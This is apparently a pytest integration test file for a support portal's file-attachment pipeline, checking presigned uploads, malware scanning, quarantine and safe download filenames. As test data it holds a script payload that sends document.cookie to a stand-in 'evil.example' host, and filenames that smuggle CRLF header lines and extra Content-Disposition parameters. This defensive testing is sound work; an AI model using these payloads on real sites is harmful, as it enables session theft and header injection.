"""Files are untrusted until checked: uploads through the presigned form, the bucket's
object-created event, the file scanner, and what downloads afterwards; all through the
local cloud."""

from __future__ import annotations

import copy
import json
import re
from typing import Any
from urllib.parse import parse_qs, quote, unquote, urlsplit

import pytest
import requests

from infra.local import LocalCloud
from tests.conftest import Portal, listen, sample_event, wait_for
from tests.unit.test_scan import EICAR, png

CONTACT = "contact@northwind.example"
AGENT = "agent@portico.example"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
# Split so that antivirus on the machine running the tests leaves this file alone.


def open_case(portal: Portal) -> dict[str, Any]:
    r = portal.request("POST", "/cases", as_user=CONTACT, json={
        "subject": "Files for you", "description": "See the attachments.",
        "category": "general"})
    assert r.status_code == 201, r.text
    case: dict[str, Any] = r.json()
    return case


def announce(portal: Portal, case: dict[str, Any], filename: str, content_type: str,
             size: int) -> dict[str, Any]:
    r = portal.request("POST", f"/cases/{case['id']}/attachments", as_user=CONTACT,
                       json={"filename": filename, "content_type": content_type, "size": size})
    assert r.status_code == 201, r.text
    form: dict[str, Any] = r.json()
    return form


def post(form: dict[str, Any], data: bytes, content_type: str) -> None:
    """The browser's part: the file, straight to S3 with the presigned form."""
    up = requests.post(form["url"], data=form["fields"],
                       files={"file": ("upload", data, content_type)}, timeout=10)
    assert up.status_code in (200, 204), up.text


def upload(portal: Portal, case: dict[str, Any], filename: str, content_type: str,
           data: bytes) -> str:
    form = announce(portal, case, filename, content_type, len(data))
    post(form, data, content_type)
    return str(form["attachment_id"])


def status(portal: Portal, case: dict[str, Any], attachment_id: str) -> str:
    items = portal.get(f"/cases/{case['id']}/attachments", as_user=CONTACT).json()["items"]
    return str(next(a["status"] for a in items if a["id"] == attachment_id))


def settled(portal: Portal, case: dict[str, Any], attachment_id: str) -> str:
    """The attachment's status once the scanner has had it."""
    def done() -> str | None:
        s = status(portal, case, attachment_id)
        return s if s != "pending_scan" else None
    return str(wait_for(done))


def download(portal: Portal, case: dict[str, Any], attachment_id: str) -> requests.Response:
    return portal.get(f"/cases/{case['id']}/attachments/{attachment_id}", as_user=AGENT)


def object_key(cloud: LocalCloud, case: dict[str, Any], attachment_id: str) -> str:
    found = cloud.client("s3").list_object_versions(
        Bucket=cloud.resource("AttachmentsBucket"), Prefix=f"cases/{case['id']}/{attachment_id}/")
    keys = {v["Key"] for v in found.get("Versions", []) + found.get("DeleteMarkers", [])}
    assert len(keys) == 1, keys
    key: str = keys.pop()
    return key


def versions(cloud: LocalCloud, key: str) -> list[dict[str, Any]]:
    found = cloud.client("s3").list_object_versions(Bucket=cloud.resource("AttachmentsBucket"),
                                                    Prefix=key)
    return [v for v in found.get("Versions", []) if v["Key"] == key]


# -- pending, then clean -------------------------------------------------------------------
def test_an_upload_is_pending_until_checked_then_clean_and_downloads(portal: Portal) -> None:
    case = open_case(portal)
    data = png()
    form = announce(portal, case, "screenshot.png", "image/png", len(data))
    assert status(portal, case, form["attachment_id"]) == "pending_scan"
    pending = download(portal, case, form["attachment_id"])
    assert pending.status_code == 409
    assert pending.json()["error"]["details"] == {"status": "pending_scan"}

    post(form, data, "image/png")
    assert settled(portal, case, form["attachment_id"]) == "clean"
    link = download(portal, case, form["attachment_id"])
    assert link.status_code == 200, link.text
    got = requests.get(link.json()["url"], timeout=10)
    assert got.status_code == 200
    assert got.content == data
    assert got.headers["Content-Type"] == "image/png"


def test_a_repeated_event_records_nothing_new(portal: Portal, cloud: LocalCloud) -> None:
    case = open_case(portal)
    with listen(cloud, type=["CaseAttachmentScanned"], data={"case_id": [case["id"]]}) as bus:
        attachment_id = upload(portal, case, "notes.txt", "text/plain", b"all good\n")
        assert settled(portal, case, attachment_id) == "clean"
        key = object_key(cloud, case, attachment_id)
        event = copy.deepcopy(sample_event("files/object-created"))
        record = event["Records"][0]["s3"]
        record["bucket"]["name"] = cloud.resource("AttachmentsBucket")
        record["object"]["key"] = quote(key, safe="/")
        record["object"]["versionId"] = versions(cloud, key)[0]["VersionId"]
        files = cloud.functions["FilesFunction"]
        for _ in range(2):
            assert files.invoke(event) == {"records": 1}
        scanned = bus.collect(at_least=2, timeout=3)
    assert [e["detail"]["data"]["status"] for e in scanned] == ["clean"]
    assert status(portal, case, attachment_id) == "clean"


# -- quarantined ---------------------------------------------------------------------------
@pytest.mark.parametrize(("filename", "content_type", "data"), [
    ("invoice.pdf", "application/pdf",
     b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'"
     b"+document.cookie</script></body></html>"),
    ("readme.txt", "text/plain", b"Please read:\n" + EICAR + b"\n"),
    ("photo.png", "image/png", PDF),
], ids=["html-as-pdf", "eicar-in-text", "pdf-as-png"])
def test_a_file_that_fails_the_check_is_quarantined_and_refused(
        portal: Portal, cloud: LocalCloud, filename: str, content_type: str,
        data: bytes) -> None:
    case = open_case(portal)
    attachment_id = upload(portal, case, filename, content_type, data)
    assert settled(portal, case, attachment_id) == "quarantined"
    refused = download(portal, case, attachment_id)
    assert refused.status_code == 409
    assert refused.json()["error"]["details"] == {"status": "quarantined"}
    # Nothing reaches the bytes by their key any more; they stay as a noncurrent version.
    key = object_key(cloud, case, attachment_id)
    head = cloud.client("s3").list_object_versions(
        Bucket=cloud.resource("AttachmentsBucket"), Prefix=key)
    assert [m["IsLatest"] for m in head.get("DeleteMarkers", [])] == [True]


def test_a_second_upload_through_the_same_form_is_removed(portal: Portal,
                                                          cloud: LocalCloud) -> None:
    case = open_case(portal)
    clean = b"quarterly figures\n"
    form = announce(portal, case, "figures.txt", "text/plain", len(clean))
    post(form, clean, "text/plain")
    assert settled(portal, case, form["attachment_id"]) == "clean"
    key = object_key(cloud, case, form["attachment_id"])
    # The form is valid for minutes: the same form, other bytes, after the check.
    post(form, b"<script>x</script>", "text/plain")
    wait_for(lambda: len(versions(cloud, key)) == 1)
    link = download(portal, case, form["attachment_id"]).json()
    assert requests.get(link["url"], timeout=10).content == clean


# -- names ---------------------------------------------------------------------------------
def disposition(url: str) -> str:
    return parse_qs(urlsplit(url).query)["response-content-disposition"][0]


_TYPE = re.compile(r"\s*([!#$%&'*+.^_`|~0-9A-Za-z-]+)\s*")
_PARAM = re.compile(r";\s*([!#$%&'*+.^_`|~0-9A-Za-z-]+)=(\"(?:[^\"\\]|\\.)*\"|[^;\s\"]+)\s*")


def params(header: str) -> tuple[str, dict[str, str]]:
    """A Content-Disposition header read strictly (RFC 6266): its type and parameters,
    each parameter once; a `filename*` decoded from UTF-8."""
    m = _TYPE.match(header)
    assert m, header
    found: dict[str, str] = {}
    at = m.end()
    while at < len(header):
        p = _PARAM.match(header, at)
        assert p, f"not a parameter at {at}: {header!r}"
        name, value = p.group(1).lower(), p.group(2)
        assert name not in found, f"{name} twice: {header!r}"
        if value.startswith('"'):
            value = re.sub(r"\\(.)", r"\1", value[1:-1])
        if name.endswith("*"):
            charset, _, encoded = value.partition("''")
            assert charset.upper() == "UTF-8", header
            value = unquote(encoded, encoding="utf-8", errors="strict")
        found[name] = value
        at = p.end()
    return m.group(1).lower(), found


def test_a_non_ascii_name_downloads_under_its_name(portal: Portal) -> None:
    case = open_case(portal)
    name = "Lasku äöå €.pdf"
    attachment_id = upload(portal, case, name, "application/pdf", PDF)
    assert settled(portal, case, attachment_id) == "clean"
    url = download(portal, case, attachment_id).json()["url"]
    expected = "filename*=UTF-8''" + quote(name, safe="")
    assert expected in disposition(url)
    got = requests.get(url, timeout=10)
    assert got.status_code == 200
    assert got.content == PDF
    header = got.headers["Content-Disposition"]
    assert expected in header
    kind, found = params(header)
    assert kind == "attachment"
    assert found["filename*"] == name
    assert found["filename"].isascii()


def test_a_name_with_a_plus_reaches_the_scanner(portal: Portal) -> None:
    # S3 sends a space as `+` and a `+` as `%2B`; the scanner must tell them apart.
    case = open_case(portal)
    attachment_id = upload(portal, case, "C++ notes + more.txt", "text/plain", b"c++\n")
    assert settled(portal, case, attachment_id) == "clean"


def test_a_name_cannot_add_header_parameters(portal: Portal) -> None:
    case = open_case(portal)
    r = portal.request("POST", f"/cases/{case['id']}/attachments", as_user=CONTACT,
                       json={"filename": 'a.pdf"\r\nSet-Cookie: x=1', "size": 3,
                             "content_type": "application/pdf"})
    assert r.status_code == 422
    name = 'report.pdf"; filename*=UTF-8\'\'evil.html; x="'
    attachment_id = upload(portal, case, name, "application/pdf", PDF)
    assert settled(portal, case, attachment_id) == "clean"
    url = download(portal, case, attachment_id).json()["url"]
    got = requests.get(url, timeout=10)
    assert got.content == PDF
    header = got.headers["Content-Disposition"]
    assert header == disposition(url)
    kind, found = params(header)
    assert kind == "attachment"
    # The would-be parameters stay inside the name's own values.
    assert set(found) <= {"filename", "filename*"}, found
    assert all("evil.html" in v for v in found.values()), found


def test_the_bucket_event_is_configured_from_the_template(cloud: LocalCloud) -> None:
    config = cloud.client("s3").get_bucket_notification_configuration(
        Bucket=cloud.resource("AttachmentsBucket"))
    events = [e for c in config.get("QueueConfigurations", []) for e in c["Events"]]
    assert "s3:ObjectCreated:*" in events
    assert json.dumps(config).count("FilesFunction") >= 1
